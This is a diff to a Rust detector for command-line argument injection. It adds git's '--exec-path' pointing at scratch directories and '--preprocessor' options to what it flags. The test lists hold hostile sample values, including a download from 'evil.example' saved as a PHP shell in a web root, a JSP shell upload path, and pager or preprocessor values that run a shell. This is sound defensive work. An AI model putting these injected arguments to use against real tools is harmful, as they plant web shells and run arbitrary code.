@@ -98,7 +98,14 @@ fn opens_word(v: &[u8], at: usize) -> bool {
 /// rsync's `--rsh-command`, `--diff-cmd`, `--command=`; psql's, git's and man's `--pager`,
 /// `--editor`, which the tool starts to show or edit text. A data option never takes a
 /// program.
-const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[b"command", b"program", b"cmd", b"pager", b"editor"];
+const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[
+    b"command",
+    b"program",
+    b"cmd",
+    b"pager",
+    b"editor",
+    b"preprocessor",
+];
 
 /// Whether the option `name` ends in `ending` as a whole dash- or underscore-separated part
 /// (any case); `compound` asks for a part before it (`index-filter`, not `filter`).
@@ -281,6 +288,14 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
         // `--exec=<path>` is glued.
         if name.eq_ignore_ascii_case(b"exec") {
             return glued_value(v, after);
+        }
+        // git's `--exec-path=/tmp`: the directory git runs its `git-*` helper programs
+        // from; one anyone can write holds an uploaded program instead.
+        if name_ends_with(name, b"exec-path", false) && v.get(after) == Some(&b'=') {
+            let dir = option_value(v, after, 128, |c| {
+                c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
+            });
+            return super::in_scratch_dir(dir) || super::in_scratch_dir(&[dir, b"/"].concat());
         }
         return (command_option(name) && with_value(v, after))
             || program_named_option(name, v, after)
@@ -544,6 +559,10 @@ mod tests {
             "http://evil.example/s.txt -o /var/www/html/s.php",
             "-O ../uploads/shell.jsp",
             "--output-document=/srv/www/x.aspx",
+            "--preprocessor=sh",
+            "--exec-path=/tmp",
+            "--exec-path=/dev/shm/x",
+            "x --exec-path=/var/tmp/",
             // Options named for a program, pager, editor or filter; a config key that names
             // a program; a config file from a scratch directory; a download into /etc.
             "-u core.pager=id",
@@ -577,6 +596,10 @@ mod tests {
         for v in [
             "-o output.txt",
             "--exec",
+            "--exec-path=/usr/lib/git-core",
+            "--exec-path",
+            "--preprocessor=babel",
+            "--exec-path=/tmpfiles",
             "well-known -exec",
             "see ProxyCommand in ssh_config",
             "ssh-o ProxyCommand",
